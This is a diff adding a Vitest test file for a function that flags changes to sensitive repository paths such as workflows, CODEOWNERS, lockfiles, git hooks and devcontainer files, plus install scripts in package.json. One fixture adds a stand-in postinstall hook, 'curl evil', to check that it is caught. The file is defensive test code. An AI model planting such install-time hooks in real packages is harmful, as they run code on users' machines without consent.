@@ -1,0 +1,52 @@
+import { expect, it } from 'vitest'
+import type { FileChange } from '../../src/model/change.ts'
+import { whyProtected } from '../../src/model/protected-paths.ts'
+import { create, remove, update } from '../support/changes.ts'
+
+it.each([
+  ['.github/workflows/a.yml', 'runs in GitHub Actions'],
+  ['.GitHub/Workflows/x.yml', 'runs in GitHub Actions'],
+  ['.github/actions/setup/action.yml', 'runs in GitHub Actions'],
+  ['action.yaml', 'runs in GitHub Actions'],
+  ['CODEOWNERS', 'decides who must approve'],
+  ['docs/CODEOWNERS', 'decides who must approve'],
+  ['.github/sous.yml', 'decides what Sous may do'],
+  ['.github/recipes/bump.yml', 'decides what Sous may do'],
+  ['.github/dependabot.yml', 'decides what is updated'],
+  ['.gitmodules', 'changes what git checks out'],
+  ['web/.gitattributes', 'changes what git checks out'],
+  ['.npmrc', 'decides where packages come from'],
+  ['web/package-lock.json', 'decides what is installed'],
+  ['Cargo.lock', 'decides what is installed'],
+  ['go.sum', 'decides what is installed'],
+  ['tools/Makefile', 'executes on make'],
+  ['.husky/pre-commit', 'executes on commit'],
+  ['.vscode/tasks.json', 'executes when the folder is opened'],
+  ['.devcontainer/devcontainer.json', 'executes when the folder is opened'],
+])('[D7] protects %s', (path, why) => {
+  expect([whyProtected(create(path, 'x')), whyProtected(update(path, 'x', 'y')), whyProtected(remove(path, 'x'))]).toEqual([why, why, why])
+})
+
+it.each(['src/action.ts', 'docs/workflows/a.yml', 'my-codeowners', 'src/makefile.md', 'package.json/x', 'github/workflows/a.yml'])(
+  '[D7] lets %s be',
+  (path) => {
+    expect(whyProtected(update(path, 'x', 'y'))).toBeUndefined()
+  },
+)
+
+const manifest = (scripts: object, version = '1.0.0') => JSON.stringify({ name: 'x', version, scripts })
+
+it.each<[what: string, change: FileChange, why: string | undefined]>([
+  [
+    'a changed script',
+    update('package.json', manifest({ test: 'a' }), manifest({ test: 'a', postinstall: 'curl evil' })),
+    'executes on install',
+  ],
+  ['a changed version', update('package.json', manifest({ test: 'a' }), manifest({ test: 'a' }, '2.0.0')), undefined],
+  ['a new manifest with scripts', create('web/package.json', manifest({ test: 'a' })), 'executes on install'],
+  ['a new manifest without', create('web/package.json', manifest({})), undefined],
+  ['a manifest that cannot be read', update('package.json', 'no json', '{}'), 'executes on install'],
+  ['a deleted manifest', remove('package.json', manifest({ test: 'a' })), undefined],
+])('[D7] looks into package.json: %s', (_what, change, why) => {
+  expect(whyProtected(change)).toBe(why)
+})
